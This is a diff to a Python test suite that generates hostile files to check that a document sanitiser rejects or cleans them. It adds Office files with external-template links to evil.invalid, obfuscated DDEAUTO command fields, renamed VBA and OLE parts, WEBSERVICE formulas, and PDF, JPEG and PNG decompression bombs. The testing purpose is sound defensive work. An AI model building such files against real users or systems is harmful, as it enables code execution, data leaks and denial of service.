@@ -1,6 +1,9 @@
 """Files as an attacker would send them, made here; each is refused or comes out without its harm."""
 
+import base64
+import struct
 import zipfile
+import zlib
 from io import BytesIO
 
 import pikepdf
@@ -114,6 +117,14 @@ def _photo(made):
     made.pages[0].Resources = Dictionary(XObject=Dictionary(P=made.make_indirect(photo)))
 
 
+def _packed_photo(made):
+    """As ReportLab writes it: the photo in letters."""
+    _photo(made)
+    photo = made.pages[0].Resources.XObject.P
+    letters = base64.a85encode(photo.read_raw_bytes()) + b"~>"
+    photo.write(letters, filter=Array([Name.ASCII85Decode, Name.DCTDecode]))
+
+
 def _media(made):
     media = Dictionary(
         Type=Name.Annot,
@@ -126,8 +137,6 @@ def _media(made):
 
 def png_of(width, height):
     """The head of a picture of that size; there is no need for the rest."""
-    import struct
-    import zlib
 
     def chunk(kind, body):
         return struct.pack("!I", len(body)) + kind + body + struct.pack("!I", zlib.crc32(kind + body))
@@ -159,6 +168,58 @@ def _instr(*pieces):
     return "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
 
 
+def _linked(relation, name="word/_rels/document.xml.rels"):
+    return office(parts={name: f"<Relationships>{relation}</Relationships>"})
+
+
+def _other_type(kind, part="word/thing.dat", body="<x/>"):
+    """A part whose harm stands in its type alone."""
+    return office(parts={part: body}, types=f'<Override PartName="/{part}" ContentType="{kind}"/>')
+
+
+def elsewhere_main(body):
+    """The text of the document under a name that says nothing."""
+    types = f'<Types><Override PartName="/word/text.dat" ContentType="{WORD}"/></Types>'
+    return packed({"[Content_Types].xml": types, "word/text.dat": TEXT.format(body)})
+
+
+def swollen(size, name=b"/FlateDecode"):
+    """A PDF whose objects lie in a stream that unpacks to so many bytes."""
+    packing = zlib.compressobj(9)
+    packed_in = packing.compress(b"10 0 << /Type /Catalog /Pages 2 0 R >>")
+    packed_in += b"".join(packing.compress(b" " * 1_000_000) for _ in range(size // 1_000_000)) + packing.flush()
+    held = b"<< /Type /ObjStm /N 1 /First 5 /Filter %s /Length %d >>\nstream\n%s\nendstream"
+    objects = {
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", 3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
+        4: held % (name, len(packed_in), packed_in),
+    }  # fmt: skip
+    made, places = b"%PDF-1.7\n", {10: (2, 4, 0)}
+    for number, body in objects.items():
+        places[number] = (1, len(made), 0)
+        made += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    table = b"".join(struct.pack(">BIH", *places.get(number, (0, 0, 0))) for number in range(11))
+    head = b"<< /Type /XRef /Size 11 /W [1 4 2] /Root 10 0 R /Length %d >>\nstream\n" % len(table)
+    return made + b"5 0 obj\n%s%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (head, table, len(made))
+
+
+def passes(count):
+    """A JPEG of many scans: each is a few bytes, and costs its decoder a way over the whole picture."""
+    whole = image(size=(640, 480), progressive=True)
+    at = whole.index(b"\xff\xda")
+    size = int.from_bytes(whole[at + 2 : at + 4], "big")
+    end = next(
+        n for n in range(at + 2 + size, len(whole)) if whole[n] == 0xFF and whole[n + 1] not in (0, *range(0xD0, 0xD8))
+    )
+    return whole[:end] + whole[at:end] * count + whole[end:]
+
+
+def many_pictures(count):
+    """Each is large and all are the same, so that hardly anything is left of them in the package."""
+    large = png_of(7000, 7000)
+    return office(parts={f"word/media/image{n}.png": large for n in range(count)})
+
+
+BREAKS_OUT = 'TargetMode="External" Target="http://evil.invalid/x" Type="http://x/attachedTemplate"'
 ZEROS = "0" * 60_000_000
 MACRO_SHEET = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
 BAD = {
@@ -212,6 +273,28 @@ BAD = {
     "utf16.docx": (office(parts={"word/x.xml": "<!DOCTYPE x>".encode("utf-16")}), FileFault.UNREADABLE),
     "drawing.docx": (office(parts={"word/media/a.svg": "<svg onload='alert(1)'/>"}), FileFault.MACROS),
     "cut.docx": (office()[:200], FileFault.UNREADABLE),
+    "prefixed.docx": (_linked(f'<p:Relationship xmlns:p="http://x" Id="r" {BREAKS_OUT}/>'), FileFault.MACROS),
+    "numbered.docx": (
+        _linked(f'<Relationship Id="r" {BREAKS_OUT.replace("External", "&#69;xternal")}/>'), FileFault.MACROS
+    ),
+    "pointed.docx": (_linked(f'<Relationship Id=">" {BREAKS_OUT}/>'), FileFault.MACROS),
+    "unsaid.docx": (_linked('<Relationship Id="r" Type="http://x/image" Target="http://evil.invalid/x"/>'), FileFault.MACROS),
+    "capitals.docx": (_linked(f'<Relationship Id="r" {BREAKS_OUT}/>', "word/_rels/document.xml.RELS"), FileFault.MACROS),
+    "renamed-dde.docx": (elsewhere_main(_instr("DDEAUTO cmd")), FileFault.MACROS),
+    "dde-between.docx": (office(text=_instr("DD<x/>EAUTO cmd")), FileFault.MACROS),
+    "chunk.docx": (_linked('<Relationship Id="r" Type="http://x/aFChunk" Target="x.dat"/>'), FileFault.MACROS),
+    "renamed-vba.docx": (_other_type("application/vnd.ms-office.vbaProject"), FileFault.MACROS),
+    "renamed-object.docx": (_linked('<Relationship Id="r" Type="http://x/oleObject" Target="x.dat"/>'), FileFault.MACROS),
+    "no-font.docx": (office(parts={"word/fonts/a.ttf": "<x TargetMode=''><ddeLink/></x>"}), FileFault.MACROS),
+    "coded.docx": (office(parts={"word/x.xml": "<?xml version='1.0' encoding='UTF-7'?><x/>"}), FileFault.UNREADABLE),
+    "same-names.docx": (office(parts={"word/Document.xml": "<x/>"}), FileFault.UNREADABLE),
+    "web-numbered.xlsx": (office(SHEET, {"xl/worksheets/a.xml": "<f>WEBSERV&#73;CE(1)</f>"}), FileFault.MACROS),
+    "source.xlsx": (office(SHEET, {"xl/sources.xml": "<connection><webPr url='http://x'/></connection>"}), FileFault.MACROS),
+    "seen.xlsx": (office(SHEET, {"xl/a.vml": "<v:fill xmlns:v='v' src='http://x/y.png'/>"}), FileFault.MACROS),
+    "swollen.pdf": (swollen(100_000_000), FileFault.UNREADABLE),
+    "swollen-otherwise.pdf": (swollen(0, b"/LZW#44ecode"), FileFault.UNREADABLE),
+    "passes.jpg": (passes(200), FileFault.UNREADABLE),
+    "pictures.docx": (many_pictures(8), FileFault.HUGE_IMAGE),
     "pixels.png": (png_of(20_000, 20_000), FileFault.HUGE_IMAGE),
     "lies.png": (png_of(4_000_000_000, 2), FileFault.HUGE_IMAGE),
     "cut.jpg": (image()[:30], FileFault.UNREADABLE),
@@ -241,9 +324,13 @@ NEUTRALISED = {
     "author.pdf": (pdf(_author), b"HARM"),
     "media.pdf": (pdf(_media), b"HARM"),
     "photo.pdf": (pdf(_photo), SECRET),
+    "packed-photo.pdf": (pdf(_packed_photo), SECRET),
     "page-behind.pdf": (pdf() + SCRIPT, SCRIPT),
     "behind.docx": (office(parts={"xl/printerSettings/printerSettings1.bin": "HARM"}), b"HARM"),
     "photo.docx": (office(parts={"word/media/image1.jpeg": located()}), SECRET),
+    "photo-renamed.docx": (office(parts={"word/media/image1.jfif": located()}), SECRET),
+    "scan.docx": (office(parts={"word/media/image1.tiff": located("TIFF")}), SECRET),
+    "moving.docx": (office(parts={"word/media/image1.gif": image("GIF", comment=SECRET)}), SECRET),
     "author.docx": (office(parts={"docProps/core.xml": "<dc:creator>HARM</dc:creator>"}), b"HARM"),
     "author-elsewhere.docx": (office(parts={"meta/who.xml": "<dc:creator>HARM</dc:creator>"}, types=OF_CORE), b"HARM"),
     "company.docx": (office(parts={"docProps/app.xml": "<Company>HARM</Company><Manager>HARM</Manager>"}), b"HARM"),
